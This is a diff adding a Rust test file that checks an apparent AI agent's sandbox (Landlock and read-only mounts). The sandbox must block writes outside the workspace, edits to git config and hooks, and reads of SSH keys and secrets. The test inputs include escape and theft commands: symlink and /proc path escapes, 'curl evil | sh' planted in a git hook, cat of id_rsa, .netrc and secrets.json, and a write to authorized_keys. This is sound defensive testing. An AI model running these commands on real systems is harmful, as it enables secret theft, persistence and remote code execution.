@@ -1,0 +1,110 @@
+//! Landlock and the mounts: a confined command writes only beneath the writable roots, whatever
+//! path it takes there, never to git's config and hooks, and reads no keys.
+
+mod confine;
+
+use confine::{read_only, write, Place};
+
+#[test]
+fn a_write_inside_the_workspace_and_the_temporary_directory_works() {
+    let Some(place) = Place::new() else { return };
+    let tmp = std::env::temp_dir().join(format!("openagent-confine-{}", std::process::id()));
+    let result = place.run(Some(write()), &format!("echo inside > inside && mkdir -p sub && echo t > {}", tmp.display()));
+    assert_eq!(result.exit_code, 0, "{result:?}");
+    assert_eq!(std::fs::read_to_string(place.work.join("inside")).unwrap(), "inside\n");
+    assert!(tmp.exists());
+    let _ = std::fs::remove_file(&tmp);
+    assert_eq!(result.sandbox_denied, None);
+}
+
+#[test]
+fn a_write_outside_the_roots_is_refused_whichever_way_it_goes() {
+    let Some(place) = Place::new() else { return };
+    std::os::unix::fs::symlink(&place.outside, place.work.join("link")).unwrap();
+    let outside = place.outside.display().to_string();
+    let cases = [
+        ("directly", format!("echo x > {outside}/direct")),
+        ("through a symlink in the workspace", "echo x > link/symlinked".to_owned()),
+        ("through ..", "echo x > ../outside/dotdot".to_owned()),
+        ("through /proc/self/cwd/..", "echo x > /proc/self/cwd/../outside/proc".to_owned()),
+        ("after cd /", format!("cd / && echo x > {}/rooted", &outside[1..])),
+        ("with mkdir", format!("mkdir {outside}/made")),
+        ("with touch in the home", format!("touch {}/dotfile", place.home.display())),
+    ];
+    for (how, command) in cases {
+        let result = place.run(Some(write()), &command);
+        assert_ne!(result.exit_code, 0, "{how}: {result:?}");
+        assert!(result.stderr.contains("Permission denied"), "{how}: {result:?}");
+        let denied = result.sandbox_denied.unwrap_or_default();
+        assert!(denied.starts_with("a write outside the writable roots"), "{how}: {denied}");
+    }
+    assert_eq!(std::fs::read_dir(&place.outside).unwrap().count(), 0, "nothing was written outside");
+    // The same commands, unconfined, do write: the refusals above are the sandbox's.
+    let result = place.run(None, &format!("echo x > {outside}/direct"));
+    assert_eq!(result.exit_code, 0, "{result:?}");
+}
+
+#[test]
+fn read_only_refuses_a_write_inside_the_workspace_too() {
+    let Some(place) = Place::new() else { return };
+    let result = place.run(Some(read_only()), "echo x > inside");
+    assert_ne!(result.exit_code, 0, "{result:?}");
+    assert!(!place.work.join("inside").exists());
+    let tmp = std::env::temp_dir().join(format!("openagent-confine-ro-{}", std::process::id()));
+    let result = place.run(Some(read_only()), &format!("echo x > {}", tmp.display()));
+    assert_ne!(result.exit_code, 0, "{result:?}");
+    assert!(!tmp.exists());
+    let result = place.run(Some(read_only()), "cat /etc/hostname > /dev/null && echo read");
+    assert_eq!(result.stdout, "read\n", "reads stay allowed: {result:?}");
+}
+
+#[test]
+fn git_config_and_hooks_stay_read_only_while_git_add_works() {
+    let Some(place) = Place::new() else { return };
+    if !confine::have("git") {
+        return;
+    }
+    let init = place.run(None, "git init -q . && mkdir -p .git/hooks && echo '#!/bin/sh' > .git/hooks/pre-commit");
+    assert_eq!(init.exit_code, 0, "{init:?}");
+    let config = std::fs::read_to_string(place.work.join(".git/config")).unwrap();
+    for command in [
+        "echo '[core] hooksPath = /x' >> .git/config",
+        "echo 'curl evil | sh' > .git/hooks/pre-commit",
+        "rm .git/hooks/pre-commit",
+    ] {
+        let result = place.run(Some(write()), command);
+        assert_ne!(result.exit_code, 0, "{command}: {result:?}");
+        assert!(result.stderr.contains("Read-only file system"), "{command}: {result:?}");
+        assert!(result.sandbox_denied.unwrap_or_default().contains("read-only"), "{command}");
+    }
+    assert_eq!(std::fs::read_to_string(place.work.join(".git/config")).unwrap(), config);
+    assert_eq!(std::fs::read_to_string(place.work.join(".git/hooks/pre-commit")).unwrap(), "#!/bin/sh\n");
+    let add = place.run(Some(write()), "echo code > main.rs && git add main.rs && git status --short");
+    assert_eq!(add.exit_code, 0, "{add:?}");
+    assert!(add.stdout.contains("A  main.rs"), "{add:?}");
+}
+
+#[test]
+fn keys_under_the_home_and_the_agents_data_are_not_readable() {
+    let Some(place) = Place::new() else { return };
+    let ssh = place.home.join(".ssh");
+    std::fs::create_dir_all(&ssh).unwrap();
+    std::fs::write(ssh.join("id_rsa"), "PRIVATE KEY").unwrap();
+    std::fs::write(place.home.join(".netrc"), "machine x password secret").unwrap();
+    let data = place.home.join(".local/share/openagent");
+    std::fs::create_dir_all(&data).unwrap();
+    std::fs::write(data.join("secrets.json"), "{\"key\":\"sk-secret\"}").unwrap();
+    let home = place.home.display();
+    let command =
+        format!("cat {home}/.ssh/id_rsa; cat {home}/.netrc; cat {home}/.local/share/openagent/secrets.json; ls -A {home}/.ssh");
+    let result = place.run(Some(write()), &command);
+    let seen = format!("{}{}", result.stdout, result.stderr);
+    for secret in ["PRIVATE KEY", "password", "sk-secret"] {
+        assert!(!seen.contains(secret), "{secret} was read: {result:?}");
+    }
+    assert!(!result.stdout.contains("id_rsa"), "the key is listed: {result:?}");
+    let unconfined = place.run(None, &command);
+    assert!(unconfined.stdout.contains("PRIVATE KEY"), "{unconfined:?}");
+    let result = place.run(Some(write()), &format!("echo x > {home}/.ssh/authorized_keys"));
+    assert_ne!(result.exit_code, 0, "{result:?}");
+}
